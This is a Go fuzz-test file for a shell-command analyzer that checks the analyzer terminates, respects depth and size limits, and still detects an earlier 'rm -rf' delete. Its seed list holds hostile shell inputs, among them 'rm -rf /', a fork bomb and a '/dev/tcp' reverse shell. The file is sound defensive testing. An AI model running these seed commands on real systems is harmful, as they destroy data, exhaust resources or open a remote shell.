package shell_test

import (
	"strings"
	"testing"
	"time"

	"approver.example/reflexcore/shell"
)

// seeds are shapes that have broken parsers and interpreters.
var seeds = []string{
	`rm -rf /`, `X=(a b); "${X[@]}"`, `$(echo rm) -rf /`, "bash <<'E'\nx\nE", `a=$((b[$(x)]))`, `for ((;;)); do :; done`,
	`while read x; do $x; done <<< y`, `f(){ f|f& };f`, `{1..9}{1..9}{1..9}{1..9}`,
	`x=xx; x=$x$x; x=$x$x; x=$x$x; echo $x`, `${a:-${b:-${c}}}`, `((((((`, `$(((((`, "`\\`\\\\`", `case x in *) ;; esac`,
	`[[ a =~ (b ]]`, `exec 3<>/dev/tcp/h/1; sh <&3 >&3`, `trap 'eval "$X"' EXIT`, `printf '%*d' 5`, `printf %s{,,}{,,}`,
	`export A`, `declare x`, `local`, `readonly -p`, `export -n y`, `let`, `typeset -A`, `nameref r=x`,
	`read -u -1 x`, `printf "%.-5s" abc`, `>&-1`, `shift -1`, `${x: -9:-9}`, `{1..9223372036854775807}`,
	`echo ${x//$(y)/$z}`, `cat <(a) >(b)`, `alias a=a; a`, `alias a='b ' b='a '; a`, `eval eval eval eval x`,
	`sh -c 'sh -c "sh -c x"'`, `xargs xargs xargs rm`, `find . -exec find . -exec rm {} \; \;`, `env -S 'env -S "rm x"'`,
	`${!x*}`, `${x@Q}`, `a[1]=x`,
	"\xff\xfe", "x\x00y", "é=1; $é", "<<<", ">&", "|||", "function", `declare -A x=([a]=b); ${x[a]}`, `coproc x { y; }`,
	`time -p`, `! ! !`, `a=~; cd $a`, `IFS=; set -- $*`, `read -a x -d ''`, `mapfile -C 'rm' -c 1`,
}

// Whatever the text, the walk ends, says something of an honest kind, and a
// delete that stands before the text is seen.
func FuzzAnalyze(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
	}
	a := analyzer(f)
	a.Code = func(lang, src string, args []string, _ shell.Context, yield func(shell.Found) bool) {
		if src != "" {
			yield(shell.Found{Shell: src})
		}
	}
	f.Fuzz(func(t *testing.T, src string) {
		hang := time.AfterFunc(20*time.Second, func() { panic("no end: " + src) })
		defer hang.Stop()
		var r, again shell.Result
		a.Analyze(src, shell.Context{Dir: "/w", Explain: true}, &r)
		a.Analyze(src, shell.Context{Dir: "/w"}, &again)
		if len(r.Effects) != len(again.Effects) {
			t.Fatalf("%d effects, and %d the second time", len(r.Effects), len(again.Effects))
		}
		for _, s := range r.Steps {
			if s.Parent >= len(r.Steps) || s.Depth > 2*a.Limits.Depth { // what is read leanly may be twice as deep
				t.Fatalf("step %+v", s)
			}
		}
		a.Analyze("rm -rf /x\n"+src, shell.Context{Dir: "/w"}, &r)
		for _, e := range r.Effects {
			if e.Target == "/x" || strings.HasPrefix(e.Target, "too complex") {
				return
			}
		}
		t.Fatalf("the delete before %q is not seen: %v", src, r.Effects)
	})
}

// The front end alone: it neither fails nor nests deeper than it may.
func FuzzParse(f *testing.F) {
	for _, s := range seeds {
		f.Add(s)
		f.Add(strings.Repeat(s, 40))
	}
	f.Fuzz(func(t *testing.T, src string) {
		how := shell.HowRead(src, shell.DefaultLimits)
		if len(src) > shell.DefaultLimits.Bytes && how != shell.Refused {
			t.Fatalf("%d bytes were read", len(src))
		}
	})
}
